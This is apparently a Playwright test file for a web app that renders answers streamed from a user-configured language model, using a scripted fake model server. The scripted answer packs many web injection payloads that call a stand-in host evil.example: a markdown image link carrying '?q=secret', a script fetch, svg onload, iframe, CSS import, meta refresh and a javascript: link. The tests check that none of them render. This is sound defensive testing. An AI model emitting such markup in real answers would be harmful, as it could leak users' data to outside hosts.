# SPDX-License-Identifier: AGPL-3.0-or-later
"""Answers that a model writes: a scripted one, that speaks the protocol of real ones."""
import http.server
import json
import threading

import pytest
from playwright.sync_api import expect

from conftest import SITE
from looks import check_axe, shot

ANSWER = (
    "The second tier of support lasts three to four weeks [1]. It costs 9,000 dollars a year [1]. "
    "See [this page](https://evil.example/?q=secret) ![](https://evil.example/pixel.png) <img src=https://evil.example/x> [2]. "
    "<https://evil.example/auto> <iframe src='https://evil.example/frame'></iframe> <script>fetch('https://evil.example/s')</script> "
    "<svg onload=fetch('https://evil.example/svg')> <style>@import 'https://evil.example/css'; body{background:url(https://evil.example/bg)}</style> "
    "<meta http-equiv=refresh content='0;url=https://evil.example/refresh'> <link rel=preload href=https://evil.example/l as=image> "
    "[x]: https://evil.example/ref <a href=javascript:fetch('//evil.example')>a</a> <object data=https://evil.example/o></object> "
    "<video src=https://evil.example/v autoplay></video> ![a](data:image/svg+xml,<svg/onload=fetch('//evil.example')>) [2]."
)


@pytest.fixture(scope="module")
def model():
    """A server of a model that says one thing, or breaks off when it is told to."""
    class Handler(http.server.BaseHTTPRequestHandler):
        breaks_off = False

        def do_POST(self):
            self.rfile.read(int(self.headers["content-length"]))
            self.send_response(200)
            self.send_header("content-type", "text/event-stream")
            self.end_headers()
            for word in ANSWER.split(" ")[:5 if Handler.breaks_off else None]:
                self.wfile.write(f"data: {json.dumps({'choices': [{'delta': {'content': word + ' '}}]})}\n\n".encode())
            if not Handler.breaks_off:
                self.wfile.write(b'data: {"choices":[{"delta":{},"finish_reason":"stop"}]}\n\ndata: [DONE]\n\n')

        def log_message(self, *_):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield Handler, f"http://127.0.0.1:{server.server_port}/v1"
    server.shutdown()


def ask(page, question="How long does the second tier of support last?"):
    page.goto(SITE + "/#ask")
    page.get_by_label("Your question").fill(question)
    page.keyboard.press("Enter")


def test_a_model_is_added_and_writes(session, model):
    page = session
    page.goto(SITE + "/#models")
    page.get_by_text("Add a model").click()
    page.get_by_label("Address").fill("http://127.0.0.1:1/v1")
    page.get_by_label("It is inside our network").check()
    page.get_by_label("Model", exact=True).fill("scripted")
    page.get_by_label("Name", exact=True).fill("Ours")
    page.get_by_role("button", name="Try and use it").click()
    expect(page.get_by_text("does not answer")).to_be_visible(timeout=15000)
    page.get_by_label("Address").fill(model[1])
    page.get_by_role("button", name="Try and use it").click()
    expect(page.get_by_role("rowheader", name="Ours")).to_be_visible()
    page.get_by_role("button", name="Test: Ours").click()
    expect(page.get_by_text("Ours: ")).to_be_visible()
    check_axe(page, "models")
    shot(page, "models")
    ask(page)
    expect(page.get_by_text("three to four weeks", exact=False).first).to_be_visible(timeout=15000)
    expect(page.get_by_text("sentences checked against their sources")).to_be_visible(timeout=15000)
    # What is made up is marked; what looks like a link or a picture is text.
    expect(page.locator(".unsupported").filter(has_text="9,000 dollars")).to_be_visible()
    # A citation would lend it what it does not have.
    expect(page.locator(".unsupported").filter(has_text="9,000 dollars").locator(".mark")).to_have_count(0)
    assert page.locator(".prose a, .prose img").count() == 0
    check_axe(page, "written")
    shot(page, "written")
    page.locator(".prose .mark").first.click()
    expect(page.locator(".source")).to_be_visible()
    expect(page.locator(".paper rect, mark").first).to_be_visible()
    shot(page, "written-source")
    page.keyboard.press("Escape")


def test_it_breaks_off_and_the_answer_is_quoted(session, model):
    page = session
    model[0].breaks_off = True
    page.reload()
    # What was written before is kept; this was not.
    ask(page, "How many weeks does the second tier of support take, and who gives it?")
    expect(page.get_by_text("The model cannot be reached just now")).to_be_visible(timeout=15000)
    expect(page.locator("blockquote").filter(has_text="three to four weeks")).to_be_visible()
    check_axe(page, "fallen back")
    page.goto(SITE + "/#models")
    page.get_by_role("button", name="Delete: Ours").click()
    expect(page.get_by_role("rowheader", name="Ours")).to_have_count(0)
